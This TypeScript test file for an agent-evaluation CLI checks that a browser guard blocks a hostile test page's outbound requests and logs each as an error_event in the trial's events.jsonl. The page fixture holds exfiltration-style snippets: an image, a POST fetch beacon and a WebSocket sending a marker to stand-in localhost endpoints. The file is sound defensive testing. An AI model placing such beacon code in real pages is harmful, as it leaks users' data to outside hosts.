/**
 * Requests the page tried and umpire blocked are evidence, through the real CLI: a page on an
 * origin the task allows (served by the hostile test server) tries to send data to another
 * origin with an image, a fetch and a WebSocket. Each is blocked, and each appears in the trial's
 * events.jsonl as an `AgentEvent` of kind `error_event` (the Agents API shape: `error` and
 * `origin` strings) with the request's details.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse, stringify } from "yaml";
import { afterAll, describe, expect, it } from "vitest";
import { REPO_ROOT, runCli } from "../../support/cli.js";
import { hostileRunArgs, startHostileModel } from "../../support/hostile-model.js";
import { events, scratch, trialFolder } from "./support.js";
import { readFixtureTask } from "../../support/fixture-tasks.js";

const s = scratch("blocked");
afterAll(() => s.cleanup());

const EVIL = `<!doctype html><title>evil</title><h1>nothing to see</h1>
<img src="http://127.0.0.1:9/exfil.png?d=BB-042">
<script>fetch("http://localhost:9/beacon", { method: "POST", body: "x" }).catch(() => {});
new WebSocket("ws://localhost:9/socket?d=BB-042");</script>`;

function taskAllowing(origin: string): string {
  const task = parse(readFixtureTask(join(REPO_ROOT, "tasks/answer-only-bb042.yaml")));
  delete task.$schema;
  task.id = "blocked-requests-bb042";
  task.tools.push("navigate");
  task.permissions.allowedOrigins = ["fixture", origin];
  const dir = join(s.dir, "tasks");
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, `${task.id}.yaml`), stringify(task));
  return dir;
}

describe("blocked requests in the trial log", () => {
  it("each request the page tried and umpire blocked is an error_event in events.jsonl", async () => {
    const runId = "blocked-run";
    let origin = "";
    const model = await startHostileModel(
      (_trial, turn) =>
        turn === 1
          ? [{ name: "navigate", args: { url: `${origin}/evil` } }]
          : turn === 2
            ? [{ name: "wait", args: { seconds: 1 } }]
            : [{ name: "answer", args: { content: "done" } }],
      "hostile",
      { "/evil": EVIL },
    );
    origin = model.origin;
    try {
      const { args, env } = hostileRunArgs(model);
      const run = await runCli(
        ["run", taskAllowing(origin), ...args, "--run-id", runId, "--out", s.out, "--db", s.db, "--json"],
        { env },
      );
      const trial = JSON.parse(run.stdout).trials[0];
      const log = events(trialFolder(s.out, runId, trial.id ?? trial.trialId));
      const blocked = log.filter(
        (e) => e.type === "AgentEvent" && e.data.kind === "error_event" && e.data.origin === "browser_guard",
      );
      const urls = blocked.map((e) => e.data.blocked_request?.url);
      expect(urls).toContain("http://127.0.0.1:9/exfil.png?d=BB-042");
      expect(urls).toContain("http://localhost:9/beacon");
      // A page's WebSocket never reaches the request route: guarded and logged alike (#38).
      expect(urls).toContain("ws://localhost:9/socket?d=BB-042");
      const socket = blocked.find((e) => e.data.blocked_request.url.startsWith("ws:"))!;
      expect(socket.data.blocked_request.resourceType).toBe("websocket");
      for (const event of blocked.filter((e) => e !== socket)) {
        expect(typeof event.data.error).toBe("string");
        expect(event.data.error).toMatch(/^blocked .* not an allowed origin for this task$/);
        expect(event.data.blocked_request.frameUrl).toBe(`${origin}/evil`);
        expect(event.data.blocked_request.navigation).toBe(false);
      }
      expect(blocked.find((e) => e.data.blocked_request.url.includes("beacon"))!.data.blocked_request.method).toBe(
        "POST",
      );
    } finally {
      await model.close();
    }
  });
});
